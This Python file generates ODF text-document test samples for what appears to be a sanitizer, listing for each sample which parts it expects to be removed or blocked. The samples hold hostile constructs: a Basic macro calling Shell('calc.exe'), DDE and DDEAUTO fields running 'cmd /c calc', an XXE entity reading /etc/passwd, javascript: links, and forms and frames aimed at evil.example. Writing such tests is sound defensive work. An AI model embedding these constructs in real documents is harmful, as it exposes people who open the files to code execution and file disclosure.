"""Samples of odt, ott and fodt: one for each thing that the lists name."""
import metafilemaker as meta
import odfmaker as odf
import ooxmlmaker
import picturemaker
from sample import Sample

HELLO = odf.p("御中 御見積のご案内")
PNG = picturemaker.png(picturemaker.flat(picturemaker.scene(16, 12)))
JPEG = picturemaker.jpeg(picturemaker.scene(16, 16))
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(2048)
MACRO = ('<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries>'
         '<ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="M"><ooo:source-code>'
         'Sub Main: Shell("calc.exe"): End Sub</ooo:source-code></ooo:module>'
         '</ooo:library-embedded></ooo:libraries></office:script></office:scripts>')


def sample(name, package, *removals, **more):
    data = package if isinstance(package, bytes) else package.data()
    more.setdefault("verdict", "sanitized" if removals else "unchanged")
    return Sample(name, data, removals=[
        kind if kind.startswith(("nested", "picture")) else "odf." + kind for kind in removals], **more)


def listener(event="dom:load"):
    return ('<office:event-listeners><script:event-listener script:language="ooo:script" '
            f'script:event-name="{event}" xlink:type="simple" xlink:href="vnd.sun.star.script:'
            'Standard.M.Main?language=Basic&amp;location=document"/></office:event-listeners>')


def settings(*items):
    inner = "".join(f'<config:config-item config:name="{name}" config:type="{kind}">{value}'
                    '</config:config-item>' for name, kind, value in items)
    return odf.root("document-settings", '<office:settings><config:config-item-set '
                    f'config:name="ooo:configuration-settings">{inner}</config:config-item-set>'
                    '</office:settings>')


def plain():
    link = ('<text:a xlink:type="simple" xlink:href="https://www.example.jp/案内?a=1&amp;b=2">'
            '案内</text:a>')
    ruby = ('<text:ruby><text:ruby-base>関所</text:ruby-base><text:ruby-text>せきしょ'
            '</text:ruby-text></text:ruby>')
    note = ('<text:note text:id="n1" text:note-class="footnote"><text:note-citation>1'
            '</text:note-citation><text:note-body><text:p>脚注の文</text:p></text:note-body>'
            '</text:note>')
    comment = ('<office:annotation office:name="c1"><dc:creator>山田</dc:creator>'
               '<dc:date>2026-01-02T03:04:05</dc:date><text:p>確認してください</text:p>'
               '</office:annotation>')
    tracked = ('<text:tracked-changes><text:changed-region text:id="ct1"><text:deletion>'
               '<office:change-info><dc:creator>山田</dc:creator><dc:date>2026-01-02T03:04:05'
               '</dc:date></office:change-info><text:p>消した文</text:p></text:deletion>'
               '</text:changed-region></text:tracked-changes>')
    table = ('<table:table table:name="T"><table:table-column table:number-columns-repeated="2"/>'
             '<table:table-row><table:table-cell office:value-type="string"><text:p>品名</text:p>'
             '</table:table-cell><table:table-cell office:value-type="string"><text:p>数量</text:p>'
             '</table:table-cell></table:table-row></table:table>')
    body = (tracked + HELLO + odf.p("詳しくは", link) + f"<text:p>{ruby}の話{note}{comment}</text:p>"
            + table + '<text:p><text:change text:change-id="ct1"/>残る文</text:p>'
            + f'<text:p>{odf.frame(odf.image("Pictures/x.png"))}</text:p>')
    package = odf.odt(body, styles='<style:style style:name="P1" style:family="paragraph">'
                      '<style:text-properties fo:font-weight="bold"/></style:style>')
    package.add("styles.xml", odf.root(
        "document-styles", '<office:styles/><office:automatic-styles/><office:master-styles>'
        '<style:master-page style:name="Standard" style:page-layout-name="pm1"><style:header>'
        '<text:p>頁の上</text:p></style:header><style:footer><text:p>頁の下 <text:page-number>1'
        '</text:page-number></text:p></style:footer></style:master-page></office:master-styles>'))
    package.add("meta.xml", odf.root("document-meta", '<office:meta><dc:title>題</dc:title>'
                                     '<meta:generator>x</meta:generator></office:meta>'))
    package.add("settings.xml", settings(("ViewAreaTop", "long", "0"),
                                         ("ViewId", "string", "view2")))
    package.add("Pictures/x.png", PNG, "image/png")
    return package


def with_ole(picture=None):
    replacement = odf.image("./ObjectReplacements/Object 1") if picture else ""
    package = odf.odt(HELLO + '<text:p>' + odf.frame(
        '<draw:object-ole xlink:href="./Object 1" xlink:type="simple"/>' + replacement)
        + '</text:p>')
    package.add("Object 1", OLE, "application/vnd.sun.star.oleobject")
    if picture:
        package.add("ObjectReplacements/Object 1", picture, "")
    return package


def running():
    """What runs, or has something run."""
    package = odf.odt(HELLO, scripts=MACRO)
    package.add("Basic/script-lc.xml", "<library/>").add("Basic/Standard/M.xml", "<module/>")
    package.add("Scripts/python/evil.py", "import os", "")
    package.add("Dialogs/dialog-lc.xml", "<libraries/>")
    yield sample("マクロ入り.odt", package, "macro", "dialog", demo=True,
                 note="a document with Basic and Python macros")
    package = odf.odt(HELLO, scripts='<office:scripts>' + listener() + '</office:scripts>')
    yield sample("event-on-open.odt", package, "event")
    link = f'<text:a xlink:type="simple" xlink:href="#x">{listener("dom:click")}押す</text:a>'
    yield sample("event-on-link.odt", odf.odt(HELLO + odf.p("", link)), "event")
    yield sample("macro-fields.odt", odf.odt(HELLO + odf.p(
        "", '<text:execute-macro text:name="Main">' + listener() + '結果</text:execute-macro>'
        '<text:script script:language="JavaScript">alert(1)</text:script>')),
        "macro_field", "event")
    for name, markup, kind in (
            ("plugin", '<draw:plugin xlink:href="Media/a.mp4" draw:mime-type="application/'
             'vnd.sun.star.media"/>', "plugin"),
            ("applet", '<draw:applet draw:code="Evil.class" xlink:href="http://evil.example/"/>',
             "plugin"),
            ("floating-frame", '<draw:floating-frame xlink:href="http://evil.example/a.html"/>',
             "floating_frame")):
        package = odf.odt(HELLO + f'<text:p>{odf.frame(markup)}</text:p>')
        if name == "plugin":
            package.add("Media/a.mp4", b"film", "")
            yield sample(name + ".odt", package, kind, "media")
        else:
            yield sample(name + ".odt", package, kind)
    form = ('<office:forms><form:form form:name="f" xlink:href="http://evil.example/" form:command='
            '"SELECT 1"><form:button form:id="b1" xml:id="b1" form:button-type="url" '
            'xlink:href="http://evil.example/"/></form:form><xforms:model><xforms:submission '
            'id="s" action="http://evil.example/"/></xforms:model></office:forms>')
    yield sample("form.odt", odf.odt(form + HELLO + '<text:p><draw:control draw:control="b1" '
                                     'svg:width="1cm" svg:height="1cm"/></text:p>'), "form")
    package = odf.odt(HELLO)
    package.add("Configurations2/accelerator/current.xml", "<x/>", "")
    package.add("Configurations2/toolbar/custom.xml", "<x/>", "")
    yield sample("configuration.odt", package, "configuration")


def outside():
    """What comes from elsewhere, or leads there."""
    dde = ('<text:dde-connection-decls><text:dde-connection-decl office:name="d" '
           'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/>'
           '</text:dde-connection-decls>')
    yield sample("dde.odt", odf.odt(dde + HELLO + odf.p(
        "", '<text:dde-connection text:connection-name="d">値</text:dde-connection>')), "dde")
    yield sample("section-source.odt", odf.odt(
        '<text:section text:name="s"><text:section-source xlink:href="file:///c:/x.odt" '
        'text:filter-name="writer8"/>' + HELLO + '</text:section>'), "section_source")
    yield sample("section-dde.odt", odf.odt(
        '<text:section text:name="s"><office:dde-source office:dde-application="soffice" '
        'office:dde-topic="x" office:dde-item="y"/>' + HELLO + '</text:section>'), "dde")
    fields = ('<text:database-display text:table-name="t" text:column-name="c">氏名'
              '</text:database-display><text:database-next text:table-name="t"/>')
    yield sample("database-fields.odt", odf.odt(HELLO + odf.p("", fields)), "database")
    for number, target in enumerate((
            "vnd.sun.star.script:Standard.M.Main?language=Basic&location=document",
            "vnd.sun.star.expand:$BRAND_BASE_DIR/x", "macro:///Standard.M.Main()", "service:x",
            ".uno:Open", "vnd.libreoffice.command:Open", "file:///c:/windows/calc.exe",
            "javascript:alert(1)", "\\\\host\\share\\x", "../x.odt", "ftp://example.jp/x",
            "smb://host/x", "data:text/html,x"), 1):
        yield sample(f"link-{number}.odt", odf.odt(HELLO + odf.p(
            "", f'<text:a xlink:type="simple" xlink:href="{odf.escape(target)}">リンク'
            '</text:a>')), "link")
    picture = f'<text:p>{odf.frame(odf.image("http://evil.example/a.png"))}</text:p>'
    yield sample("linked-picture.odt", odf.odt(HELLO + picture), "linked_picture")
    picture = f'<text:p>{odf.frame(odf.image("../../secret.png"))}</text:p>'
    yield sample("picture-beside.odt", odf.odt(HELLO + picture), "linked_picture")
    package = odf.odt(HELLO, styles='<style:style style:name="P" style:family="paragraph">'
                      '<style:paragraph-properties><style:background-image xlink:href='
                      '"http://evil.example/b.png"/></style:paragraph-properties></style:style>')
    yield sample("linked-background.odt", package, "linked_picture")
    yield sample("object-elsewhere.odt", odf.odt(HELLO + '<text:p>' + odf.frame(
        '<draw:object xlink:href="file:///c:/x.ods"/>') + '</text:p>'), "external_target")
    yield sample("index-file.odt", odf.odt(HELLO + '<text:alphabetical-index text:name="a">'
                                           '<text:alphabetical-index-source/><text:index-body/>'
                                           '</text:alphabetical-index>'
                                           '<text:alphabetical-index-auto-mark-file '
                                           'xlink:href="http://evil.example/"/>'),
                 "external_target")
    package = odf.odt(HELLO)
    package.add("meta.xml", odf.root(
        "document-meta", '<office:meta><meta:template xlink:href="http://evil.example/t.ott"/>'
        '<meta:auto-reload xlink:href="http://evil.example/" meta:delay="PT1S"/></office:meta>'))
    yield sample("template.odt", package, "template", "auto_reload")
    yield sample("rdfa.odt", odf.odt('<text:p xhtml:about="x" xhtml:property="y">本文</text:p>'),
                 "metadata")
    yield sample("xml-base.odt", odf.odt('<text:p xml:base="http://evil.example/">本文</text:p>'),
                 "external_target")


def objects():
    yield sample("ole.odt", with_ole(), "ole_object")
    yield sample("ole-picture.odt", with_ole(PNG), "ole_object", note="its picture stays")
    yield sample("ole-metafile.odt", with_ole(b"VCLMTF\x01\x00" + bytes(64)), "ole_object",
                 "nested.blocked")
    package = odf.odt(HELLO + '<text:p>' + odf.frame(
        '<draw:object xlink:href="./Object 1" xlink:type="simple"/>'
        + odf.image("./ObjectReplacements/Object 1")) + '</text:p>')
    odf.chart_object(package).add("ObjectReplacements/Object 1", PNG, "")
    yield sample("chart.odt", package)
    package = odf.odt(HELLO + '<text:p>' + odf.frame(
        '<draw:object xlink:href="./Object 1" xlink:type="simple"/>'
        + odf.image("./ObjectReplacements/Object 1")) + '</text:p>')
    odf.chart_object(package).add("ObjectReplacements/Object 1", b"VCLMTF" + bytes(64), "")
    yield sample("chart-metafile.odt", package, "nested.blocked", note="the chart itself stays")
    package = odf.odt(HELLO + '<text:p>' + odf.frame(
        '<draw:object xlink:href="./Object 1"/>') + '</text:p>')
    package.folder("Object 1/", "formula")
    package.add("Object 1/content.xml", f'{odf.DECLARATION}<math xmlns="http://www.w3.org/1998/'
                'Math/MathML" display="block"><semantics><mrow><mi>a</mi><mo stretchy="false">+</mo>'
                '<mn>1</mn></mrow><annotation encoding="StarMath 5.0">a+1</annotation></semantics>'
                '</math>')
    yield sample("formula.odt", package)
    package = odf.odt(HELLO + '<text:p>' + odf.frame(
        '<draw:object xlink:href="./Object 1"/>' + odf.image("ObjectReplacements/Object 1"))
        + '</text:p>')
    package.folder("Object 1/", "spreadsheet")
    package.add("Object 1/content.xml", odf.content("spreadsheet", odf.sheet([odf.cell("中")])))
    package.add("ObjectReplacements/Object 1", PNG, "")
    yield sample("embedded-sheet.odt", package, "embedded_document")
    package = odf.odt(HELLO + '<text:p>' + odf.frame(
        '<draw:object xlink:href="./Object 1"/>') + '</text:p>')
    package.add("Object 1", ooxmlmaker.docx(ooxmlmaker.paragraph("x")).data(), "application/zip")
    yield sample("embedded-docx.odt", package, "embedded_document")
    inner = ('<chart:series chart:values-cell-range-address="&apos;file:///c:/x.ods&apos;#$A.A1"/>')
    package = odf.odt(HELLO + '<text:p>' + odf.frame('<draw:object xlink:href="./Object 1"/>')
                      + '</text:p>')
    yield sample("chart-outside.odt", odf.chart_object(package, inner=inner), "external_target")
    package = odf.odt(HELLO + '<text:p>' + odf.frame('<draw:object xlink:href="./Object 1"/>')
                      + '</text:p>')
    package.folder("Object 1/", "chart").add("Object 1/content.xml", "<broken")
    yield sample("object-broken.odt", package, "part_broken", "embedded_document")


def pictures():
    package = odf.odt(HELLO + '<text:p>' + odf.frame(
        odf.image("Pictures/a.svg") + odf.image("Pictures/a.png")) + '</text:p>')
    package.add("Pictures/a.svg", '<svg xmlns="http://www.w3.org/2000/svg"/>', "image/svg+xml")
    package.add("Pictures/a.png", PNG, "image/png")
    yield sample("picture-alternatives.odt", package, "nested.blocked",
                 note="of two forms of a picture the one that can be rebuilt stays")
    for name, data, *lost in (
            ("a.emf", meta.EMF), ("a.wmf", meta.WMF), ("a.emz", meta.packed(meta.EMF)),
            ("comment.emf", meta.EMF_DUAL, "picture.metafile"), ("escape.wmf", meta.WMF_DRIVER, "picture.metafile"),
            ("cut.emf", meta.EMF[:-30], "nested.blocked"), ("cut.wmf", meta.WMF[:-10], "nested.blocked"),
            ("a.svm", b"VCLMTF\x01\0" + bytes(60), "nested.blocked")):
        package = odf.odt(HELLO + f'<text:p>{odf.frame(odf.image(f"Pictures/{name}"))}</text:p>')
        package.add(f"Pictures/{name}", data, "")
        stem, kind = name.split(".")
        yield sample(f"metafile-{kind}.odt" if stem == "a" else f"metafile-{stem}-{kind}.odt", package, *lost)
    package = odf.odt(HELLO + f'<text:p>{odf.frame(odf.image("Pictures/a.jpg"))}</text:p>')
    package.add("Pictures/a.jpg", JPEG, "image/jpeg")
    yield sample("jpeg.odt", package)
    package = odf.odt(HELLO).add("Pictures/unused.png", PNG, "image/png")
    yield sample("unused-picture.odt", package, "part_unreferenced")
    inline = (f'<draw:image><office:binary-data>{odf.base64_text(PNG)}</office:binary-data>'
              '</draw:image>')
    yield sample("inline-picture.odt", odf.odt(HELLO + f'<text:p>{odf.frame(inline)}</text:p>'))


def rest():
    package = odf.odt(HELLO)
    package.add("Thumbnails/thumbnail.png", PNG, "image/png")
    package.add("layout-cache", b"\x07", "application/binary")
    package.add("manifest.rdf", "<rdf/>", "application/rdf+xml")
    package.add("VersionList.xml", "<x/>").add("Versions/Version1", b"PK\x03\x04", "")
    package.hide("META-INF/documentsignatures.xml", b"<x/>")
    package.hide("META-INF/macrosignatures.xml", b"<x/>")
    yield sample("parts.odt", package, "thumbnail", "layout_cache", "metadata", "version",
                 "signature")
    package = odf.odt(HELLO, declarations='<office:font-face-decls><style:font-face '
                      'style:name="F"><svg:font-face-src><svg:font-face-uri xlink:href="Fonts/a.ttf"'
                      '/></svg:font-face-src></style:font-face></office:font-face-decls>')
    package.add("Fonts/a.ttf", b"\0\1\0\0" + bytes(60), "application/x-font-ttf")
    yield sample("font.odt", package, "embedded_font")
    package = odf.odt(HELLO).add("settings.xml", settings(
        ("PrinterSetup", "base64Binary", "AAAA"), ("PrinterName", "string", "\\\\srv\\p"),
        ("LinkUpdateMode", "short", "2"), ("ColorTableURL", "string", "$(user)/config/x.soc"),
        ("ViewAreaTop", "long", "file:///x"), ("ViewAreaLeft", "long", "5")))
    yield sample("settings.odt", package, "setting")
    package = odf.odt(HELLO + '<evil:x xmlns:evil="urn:evil"><text:p>隠</text:p></evil:x>'
                      '<text:p xmlns:evil="urn:evil" evil:a="1">本文</text:p>')
    yield sample("unknown-namespace.odt", package, "xml_unknown")
    yield sample("unknown-names.odt", odf.odt(HELLO + '<text:evil>x</text:evil>'
                                              '<text:p text:evil="1">本文</text:p>'),
                 "unknown_element", "unknown_attribute")
    yield sample("comment.odt", odf.odt(HELLO + "<!-- x --><?evil y?>"), "xml_extra")
    mark = ('<field:fieldmark-start text:name="a" field:type="{}"/>{}<field:fieldmark-separator/>'
            '結果<field:fieldmark-end/>')
    yield sample("fieldmark-dde.odt", odf.odt(HELLO + odf.p("", mark.format(
        "vnd.oasis.opendocument.field.UNHANDLED", " DDEAUTO cmd /c calc "))), "field")
    yield sample("fieldmark-form.odt", odf.odt(HELLO + odf.p("", mark.format(
        "vnd.oasis.opendocument.field.FORMTEXT", ""))))
    yield sample("field-formula.odt", odf.odt(HELLO + odf.p(
        "", '<text:conditional-text text:condition="ooow:WEBSERVICE(&quot;http://x&quot;)" '
        'text:string-value-if-true="a" text:string-value-if-false="b">a</text:conditional-text>')),
        "formula")


def whole():
    """Documents by what they are as a whole."""
    yield sample("plain.odt", plain())
    package = odf.Package("text-template", odf.content("text", HELLO))
    yield sample("ひな形.ott", package)
    package = odf.Package("text-master", odf.content("text", HELLO))
    yield sample("master.odm", package, output="master.odt")
    package = odf.odt(HELLO)
    package.mimetype = ""
    yield sample("no-mimetype.odt", package)
    package = odf.odt(HELLO)
    package.doctype = '<!DOCTYPE manifest:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "M.dtd">'
    yield sample("old-manifest.odt", package)
    yield sample("flat.fodt", odf.flat("text", HELLO + '<text:p>' + odf.frame(
        '<draw:image><office:binary-data>' + odf.base64_text(PNG)
        + '</office:binary-data></draw:image>') + '</text:p>'))
    yield sample("flat-macro.fodt", odf.flat("text", HELLO, scripts=MACRO), "macro")
    yield sample("flat-ole.fodt", odf.flat("text", HELLO + '<text:p>' + odf.frame(
        '<draw:object-ole><office:binary-data>' + odf.base64_text(OLE)
        + '</office:binary-data></draw:object-ole>') + '</text:p>'), "ole_object")
    yield sample("flat-linked.fodt", odf.flat("text", HELLO + '<text:p>' + odf.frame(
        odf.image("file:///c:/x.png")) + '</text:p>'), "linked_picture")
    yield sample("flat-file.fodt", odf.flat("text", HELLO + '<text:p>' + odf.frame(
        '<draw:image><office:binary-data>' + odf.base64_text(OLE)
        + '</office:binary-data></draw:image>') + '</text:p>'), "nested.blocked")


def locked():
    """Under a password, as LibreOffice writes it."""
    def package():
        one = odf.odt(HELLO + f'<text:p>{odf.frame(odf.image("Pictures/a.png"))}</text:p>')
        return one.add("Pictures/a.png", PNG, "image/png")
    data = odf.lock(package(), "関所pass").data()
    yield sample("locked.odt", data, "encryption", passwords=["x", "関所pass"])
    for name, passwords, reason in (("locked-waiting.odt", [], "encrypted"),
                                    ("locked-wrong.odt", ["x"], "encrypted.wrong_password")):
        yield Sample(name, data, verdict="password", reason=reason, passwords=passwords)
    for name, more in (("locked-blowfish.odt", {"algorithm": "Blowfish CFB"}),
                       ("locked-slow.odt", {"iterations": 1000001})):
        yield Sample(name, odf.lock(package(), "x", **more).data(), verdict="blocked",
                     reason="encrypted.unsupported")
    broken = odf.lock(package(), "x")
    broken.sizes["content.xml"] = ' manifest:size="10"'
    yield Sample("locked-size.odt", broken.data(), verdict="blocked", reason="malformed",
                 passwords=["x"])


def refused():
    def blocked(name, data, reason, **more):
        data = data if isinstance(data, bytes) else data.data()
        return Sample(name, data, verdict="blocked", reason=reason, **more)
    package = odf.odt(HELLO)
    package.files["content.xml"] = (package.files["content.xml"][0].replace(
        b"<office:document-content", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
        b"<office:document-content", 1), "text/xml")
    yield blocked("dtd.odt", package, "xml.dtd")
    package = odf.odt(HELLO)
    package.files["content.xml"] = (package.files["content.xml"][0][:-20], "text/xml")
    yield blocked("broken.odt", package, "malformed")
    package = odf.odt(HELLO).add("x.xml", "<a/>").add("X.XML", "<a/>")
    yield blocked("twins.odt", package, "archive.name_collision")
    package = odf.odt(HELLO)
    package.mimetype = odf.ODF + "spreadsheet"
    yield blocked("two-types.odt", package, "type.ambiguous")
    package = odf.odt(HELLO + "<text:section>" * 260 + "</text:section>" * 260)
    yield blocked("deep.odt", package, "limit.depth")
    yield blocked("no-content.odt", odf.Package("text", "").add("other.xml", "<a/>"), "malformed")
    yield blocked("flat-dtd.fodt", odf.flat("text", HELLO).replace(
        b"<office:document", b"<!DOCTYPE x><office:document", 1), "xml.dtd")
    yield blocked("cut.odt", odf.odt(HELLO).data()[:200], "malformed.truncated")


def samples():
    yield from whole()
    yield from running()
    yield from outside()
    yield from objects()
    yield from pictures()
    yield from rest()
    yield from locked()
    yield from refused()
